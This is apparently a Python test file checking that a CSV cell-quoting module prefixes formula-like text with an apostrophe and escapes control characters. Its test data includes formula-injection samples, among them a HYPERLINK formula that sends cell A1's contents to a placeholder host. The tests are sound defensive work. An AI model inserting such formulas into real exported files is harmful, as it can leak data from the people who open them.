from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from genre_desktop.core.quoting.cells import cell, cell_text

FORMULAS = [
    "=HYPERLINK(\"http://x/?\"&A1)", "+1", "-2+3", "@SUM(1)", "＝1", "－rock",
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_a_spreadsheet_computes_nothing(text: str) -> None:
    assert cell(text) == f"'{text}"
    assert cell_text(cell(text)) == text


@pytest.mark.parametrize("text", ["rock", "", "'80s", "R'n'B", "Drum = Bass", "7-inch", "'t Hooft"])
def test_other_text_stays_as_it_is(text: str) -> None:
    assert cell(text) == text == cell_text(text)


def test_controls_are_escapes_and_cannot_begin_a_cell() -> None:
    assert cell("\t=1") == "\\t=1"
    assert cell("\r=1\0\x1b[31m\u202e\udcff") == "\\r=1\\x00\\x1b[31m\\u202e\\udcff"


@given(st.text(st.sampled_from("'=+-@＝ab ,;\"")))
def test_reading_gives_back_what_was_written(text: str) -> None:
    file = io.StringIO(newline="")
    csv.writer(file).writerow([cell(text), "1"])
    content, _ = next(csv.reader(io.StringIO(file.getvalue(), newline="")))
    assert cell_text(content) == text
    assert content[:1] not in tuple("=+-@＝")


def test_a_cell_that_already_had_an_apostrophe_keeps_it() -> None:
    assert cell("'=1") == "''=1"
    assert cell_text("''=1") == "'=1"
